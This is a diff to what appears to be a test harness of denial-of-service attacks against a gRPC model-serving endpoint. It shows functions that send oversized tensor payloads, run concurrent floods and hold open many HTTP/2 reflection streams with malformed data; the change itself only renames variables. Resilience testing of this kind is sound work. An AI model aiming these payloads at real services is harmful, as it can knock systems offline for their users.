@@ -128,7 +128,7 @@ def many_streams(target: AttackTarget) -> None:
 
     body = predict(FLOATS, entry("x", tensor(1, [15 * MIB], block(5, bytes(60 * MIB)))))
 
-    def ask(_: int) -> str:
+    def send_queries(_: int) -> str:
         try:
             call(body, timeout=10)
             return target.count_response("OK")
@@ -137,7 +137,7 @@ def many_streams(target: AttackTarget) -> None:
 
     with grpc.insecure_channel(f"{HOST}:{target.port}") as channel:
         call = channel.unary_unary(PREDICT)
-        run_concurrently(24, ask)
+        run_concurrently(24, send_queries)
 
 
 @attack("answers that nobody reads, over gRPC", quick=True)
@@ -203,11 +203,11 @@ def checks(target: AttackTarget) -> None:
 
 @attack("reflection without end")
 def reflection(target: AttackTarget) -> None:
-    ask = message(block(7, "")) + message(block(4, "tensorflow.serving.PredictionService")) + message(b"\xff" * 50)
+    requests = message(block(7, "")) + message(block(4, "tensorflow.serving.PredictionService")) + message(b"\xff" * 50)
     with open_connections(lambda: target.http2(5), 20) as connections:
         for _ in range(50):
             for connection in connections:
-                send(connection, open_stream(1, call_headers(REFLECTION)) + data(1, ask * 5, last=False))
+                send(connection, open_stream(1, call_headers(REFLECTION)) + data(1, requests * 5, last=False))
         hold_open(2)
     target.call(REFLECTION, block(4, "n" * 20 * MIB))
     target.call(REFLECTION, block(3, "f" * 1000))
